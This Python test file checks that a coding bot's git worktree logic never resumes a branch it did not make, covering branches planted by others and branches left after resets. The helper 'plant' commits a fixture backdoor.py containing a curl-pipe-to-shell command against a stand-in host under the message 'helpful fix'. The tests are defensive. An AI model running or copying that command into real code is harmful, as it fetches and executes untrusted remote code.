"""A task resumes only the branch this bot made for it (rooms/work/worktrees.py, issue 24 #3).

The attacks: a branch planted under the name task 1 will use, with a malicious commit on it;
and the same name left over from an earlier life of the bot (the database reset, with or without
its data folder), since task ids start at 1 again. Neither may be what the task builds on."""

from __future__ import annotations

import shutil
from pathlib import Path

from rooms.base.model import GroupPolicy
from tests.fakes.engine_kit import engine_kit
from tests.fakes.runner import Script, hang, say
from tests.rooms.git_helpers import git, make_repo

TEXT = "@tribunal fix the login bug"
WANTED = "tribunal/1-fix-the-login-bug"


def policy_for(workspace: Path) -> GroupPolicy:
    return GroupPolicy(name="g", workspace=str(workspace), approvers=frozenset({"boss"}))


def approved(files: dict[str, str]) -> Script:
    return {"owner": [say("DONE\nfixed", files=files), "DONE\nwrapped"], "reviewer": ["APPROVED"]}


def plant(repo: Path, branch: str) -> str:
    """A branch `branch` with a malicious commit on it, made by someone else; its commit."""
    git(repo, "checkout", "-q", "-b", branch)
    (repo / "backdoor.py").write_text("import os; os.system('curl evil | sh')\n")
    git(repo, "add", "backdoor.py")
    git(repo, "commit", "-q", "-m", "helpful fix")
    git(repo, "checkout", "-q", "main")
    return git(repo, "rev-parse", branch).strip()


def is_ancestor(repo: Path, older: str, newer: str) -> bool:
    done = git(repo, "rev-list", newer)
    return older in done.split()


async def test_a_planted_branch_under_the_tasks_name_is_left_alone(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    start = git(repo, "rev-parse", "main").strip()
    planted = plant(repo, WANTED)
    async with engine_kit(
        tmp_path, approved({"login.py": "ok = True\n"}), policy=policy_for(repo)
    ) as kit:
        await kit.say(TEXT)
        await kit.settle()
        workspace = Path(kit.runner.calls[0].spec.workspace or "")
        record = await kit.store.worktree(1)
        texts = kit.platform.texts()
    # The owner never saw the planted file, and the task's own branch starts at main.
    assert not (workspace / "backdoor.py").exists(), "the task built on the planted commit"
    assert workspace.name == "1-fix-the-login-bug-2"
    ours = "tribunal/1-fix-the-login-bug-2"
    assert git(repo, "rev-parse", f"{ours}^").strip() == start
    assert not is_ancestor(repo, planted, ours)
    assert "backdoor.py" not in git(repo, "ls-tree", "-r", "--name-only", ours)
    assert git(repo, "rev-parse", WANTED).strip() == planted  # the planted one is untouched
    # The store records what was made and what was wanted; the room is told.
    assert record is not None
    assert (record.name, record.wanted, record.branch, record.base) == (
        "1-fix-the-login-bug-2",
        "1-fix-the-login-bug",
        ours,
        start,
    )
    assert any(
        f"`{WANTED}` exists already, and this bot did not make it for task #1" in t
        and f"`{ours}`, started from {start[:12]}" in t
        for t in texts
    ), texts
    assert f"committed on branch `{ours}`" in texts[-1]


async def test_after_a_reset_the_left_over_branch_and_worktree_are_not_resumed(
    tmp_path: Path,
) -> None:
    repo = make_repo(tmp_path / "repo")
    start = git(repo, "rev-parse", "main").strip()
    data = tmp_path / "data"
    first = approved({"old.py": "old = 1\n"})
    async with engine_kit(
        tmp_path, first, policy=policy_for(repo), db=str(tmp_path / "a.db"), data_dir=str(data)
    ) as kit:
        await kit.say(TEXT)
        await kit.settle()
    old = git(repo, "rev-parse", WANTED).strip()
    # Someone adds to the left-over branch's worktree while nobody drives it.
    (data / "worktrees" / "1-fix-the-login-bug" / "planted.py").write_text("evil = 1\n")

    # The database is reset (a new file), the data folder kept: task #1 again, same text.
    second = approved({"new.py": "new = 1\n"})
    async with engine_kit(
        tmp_path, second, policy=policy_for(repo), db=str(tmp_path / "b.db"), data_dir=str(data)
    ) as kit:
        await kit.say(TEXT)
        await kit.settle()
        workspace = Path(kit.runner.calls[0].spec.workspace or "")
    assert not (workspace / "old.py").exists(), "the task resumed the left-over worktree"
    assert not (workspace / "planted.py").exists()
    assert workspace.name == "1-fix-the-login-bug-2"
    names = git(repo, "ls-tree", "-r", "--name-only", "tribunal/1-fix-the-login-bug-2").split()
    assert names == ["README.md", "new.py"]
    assert git(repo, "rev-parse", WANTED).strip() == old  # the old one is left as it was

    # Both reset: a new database and an empty data folder.
    shutil.rmtree(data)
    third = approved({"third.py": "third = 1\n"})
    async with engine_kit(
        tmp_path, third, policy=policy_for(repo), db=str(tmp_path / "c.db"), data_dir=str(data)
    ) as kit:
        await kit.say(TEXT)
        await kit.settle()
        record = await kit.store.worktree(1)
    assert record is not None and record.branch == "tribunal/1-fix-the-login-bug-3"
    assert record.base == start
    names = git(repo, "ls-tree", "-r", "--name-only", record.branch).split()
    assert names == ["README.md", "third.py"]


async def test_a_restarted_bot_resumes_the_branch_it_made_under_its_recorded_name(
    tmp_path: Path,
) -> None:
    repo = make_repo(tmp_path / "repo")
    plant(repo, WANTED)
    db, data = str(tmp_path / "t.db"), str(tmp_path / "data")
    first: Script = {
        "owner": [say("DONE\nfixed", files={"login.py": "ok = True\n"})],
        "reviewer": [hang()],
    }
    async with engine_kit(tmp_path, first, policy=policy_for(repo), db=db, data_dir=data) as kit:
        await kit.say(TEXT)
        await kit.runner.wait_calls(2)  # the reviewer runs: the bot stops now
    second: Script = {"owner": ["DONE\nwrapped"], "reviewer": ["APPROVED"]}
    async with engine_kit(tmp_path, second, policy=policy_for(repo), db=db, data_dir=data) as kit:
        await kit.settle()
        assert (await kit.task()).status == "closed"
        workspaces = {c.spec.workspace for c in kit.runner.calls}
    assert workspaces == {str(Path(data) / "worktrees" / "1-fix-the-login-bug-2")}
    names = git(repo, "ls-tree", "-r", "--name-only", "tribunal/1-fix-the-login-bug-2").split()
    assert names == ["README.md", "login.py"]


async def test_a_recorded_branch_replaced_while_its_worktree_was_gone_is_refused(
    tmp_path: Path,
) -> None:
    repo = make_repo(tmp_path / "repo")
    db, data = str(tmp_path / "t.db"), tmp_path / "data"
    first: Script = {"owner": [say("DONE\nfixed", files={"a.py": "a = 1\n"})], "reviewer": [hang()]}
    async with engine_kit(
        tmp_path, first, policy=policy_for(repo), db=db, data_dir=str(data)
    ) as kit:
        await kit.say(TEXT)
        await kit.runner.wait_calls(2)
    # The data folder is lost, the database kept; meanwhile the branch is replaced by another
    # history (not descending from where the task started).
    shutil.rmtree(data)
    git(repo, "worktree", "prune")
    git(repo, "checkout", "-q", "--orphan", "other")
    git(repo, "commit", "-q", "-m", "another history")
    git(repo, "checkout", "-q", "main")
    git(repo, "branch", "-f", WANTED, "other")
    async with engine_kit(tmp_path, {}, policy=policy_for(repo), db=db, data_dir=str(data)) as kit:
        await kit.settle()
        assert (await kit.task()).status == "closed"
        assert kit.runner.calls == []
        refusal = kit.platform.texts()[-1]
    assert refusal.startswith("⚠️ Task #1 cannot start: its own worktree could not be made (")
    assert f"its branch `{WANTED}` no longer descends from where the task started" in refusal
